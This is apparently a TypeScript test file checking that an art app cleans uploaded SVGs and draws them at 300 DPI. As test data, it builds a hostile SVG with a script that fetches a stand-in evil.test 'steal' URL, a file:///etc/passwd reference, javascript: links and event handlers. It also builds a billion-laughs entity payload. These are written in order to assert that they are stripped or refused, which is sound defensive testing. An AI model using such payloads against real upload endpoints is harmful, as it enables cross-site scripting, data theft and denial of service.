// Vector art (issue 18): SVG uploads are cleaned before anything renders them and drawn at 300 DPI
// from their physical size (CSS Values and Units Level 3 §6.2: 1in = 25.4mm = 96px). Checked by
// reading back what was stored: the kept SVG, and the PNG drawn from it (its pHYs, PNG §11.3.5.3).
import { zipSync } from 'fflate';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { ArtItem } from '../../server/modules/art/art-item.entity';
import { Client, binary, makeTeamWithRoles, useTestApp } from '../helpers/app';
import { uploadFile } from '../helpers/library';

const t = useTestApp({ pool: true });

async function member() {
  const { team, users } = await makeTeamWithRoles(t.db);
  const client = new Client(t.sheetsmith.app);
  await client.signIn(users.member.email);
  return { team, client };
}
const svg = (body: string, attrs = 'width="40mm" height="20mm" viewBox="0 0 400 200"') =>
  Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attrs}>${body}</svg>`);
const get = (client: Client, url: string) => client.agent.get(url).buffer(true).parse(binary);

describe('SVG art', () => {
  it('cleans a hostile SVG (script, handlers, outside references) and keeps the drawing', async () => {
    const { team, client } = await member();
    const hostile = svg(
      `<script>fetch('http://evil.test/steal')</script>
       <style>.a{fill:url(http://evil.test/p.svg#x)}</style>
       <image href="http://evil.test/pixel.png" width="10" height="10"/>
       <image xlink:href="file:///etc/passwd" width="10" height="10"/>
       <foreignObject width="100" height="100"><div xmlns="http://www.w3.org/1999/xhtml"><img src="http://evil.test/x.png"/></div></foreignObject>
       <a href="javascript:alert(1)"><rect x="0" y="0" width="400" height="200" rx="30" fill="#e76f51" onclick="alert(2)"/></a>`,
      'width="40mm" height="20mm" viewBox="0 0 400 200" onload="alert(3)"',
    );
    const res = await uploadFile(client, team.id, hostile, 'badge.svg');
    expect(res.status).toBe(201);
    const item = res.body.results[0].item;
    expect(item.source).toEqual({ format: 'svg', url: `/api/teams/${team.id}/art/${item.id}/source` });
    const kept = await get(client, item.source.url);
    expect(kept.headers['content-disposition']).toMatch(/^attachment; filename="?badge\.svg"?$/);
    const text = (kept.body as Buffer).toString('utf8');
    for (const banned of ['<script', 'onload', 'onclick', 'evil.test', 'javascript:', 'file:', 'foreignObject', '<img', '<div'])
      expect(text, banned).not.toContain(banned);
    expect(text).toContain('fill="#e76f51"');
    // The drawing survived: the PNG is the badge's colour in the middle.
    const png = (await get(client, item.fileUrl)).body as Buffer;
    const { data } = await sharp(png)
      .extract({ left: item.widthPx >> 1, top: item.heightPx >> 1, width: 1, height: 1 })
      .raw()
      .toBuffer({ resolveWithObject: true });
    expect([...data.subarray(0, 3)]).toEqual([0xe7, 0x6f, 0x51]);
  });

  it('refuses entities (billion laughs), documents without a size and too many elements, storing nothing', async () => {
    const { team, client } = await member();
    const laughs = Buffer.from(
      `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><svg xmlns="http://www.w3.org/2000/svg" width="1in" height="1in"><text y="20">&lol2;</text></svg>`,
    );
    const cases: Array<[Buffer, RegExp]> = [
      [laughs, /declares a document type or entities/],
      [svg('<circle cx="5" cy="5" r="4"/>', ''), /has no size/],
      [svg('<rect width="1" height="1"/>'.repeat(20_001)), /more than 20,000 elements/],
    ];
    for (const [file, message] of cases) {
      const res = await uploadFile(client, team.id, file, 'art.svg');
      expect(res.status).toBe(422);
      expect(res.body.error.message).toMatch(message);
    }
    expect(await t.db.getRepository(ArtItem).countBy({ teamId: team.id })).toBe(0);
  });

  it('draws at its physical size at 300 DPI (± 1 px), and outlines at that size', async () => {
    const { team, client } = await member();
    const res = await uploadFile(client, team.id, svg('<rect width="400" height="200" rx="20" fill="#264653"/>'), 'plate.svg');
    const item = res.body.results[0].item;
    expect(Math.abs(item.widthPx - (40 / 25.4) * 300)).toBeLessThanOrEqual(1);
    expect(Math.abs(item.heightPx - (20 / 25.4) * 300)).toBeLessThanOrEqual(1);
    const meta = await sharp((await get(client, item.fileUrl)).body as Buffer).metadata();
    expect(meta.density).toBe(300);
    const outline = await client.get(`/api/teams/${team.id}/art/${item.id}/outline?width=${item.largestPrint.at300.widthMm}mm&border=0`);
    expect(outline.status).toBe(200);
    expect(Math.abs(outline.body.pieces[0].widthMm - 40)).toBeLessThanOrEqual(25.4 / 300);
    // Inches and viewBox-only sizes read as CSS units: 1in = 96 user units.
    const inch = await uploadFile(client, team.id, svg('<circle cx="48" cy="48" r="48"/>', 'viewBox="0 0 96 48"'), 'dot.svg');
    expect([inch.body.results[0].item.widthPx, inch.body.results[0].item.heightPx]).toEqual([300, 150]);
  });

  it('takes SVG from a pack beside the PNGs', async () => {
    const { team, client } = await member();
    const zip = Buffer.from(zipSync({ 'pack/star.svg': svg('<path d="M200 0 L260 200 L140 200 Z" fill="#f4a261"/>') }));
    const res = await uploadFile(client, team.id, zip, 'pack.zip');
    expect(res.status).toBe(201);
    expect(res.body.results[0]).toMatchObject({ file: 'pack/star.svg', status: 'stored', item: { name: 'star', format: 'png' } });
  });
});
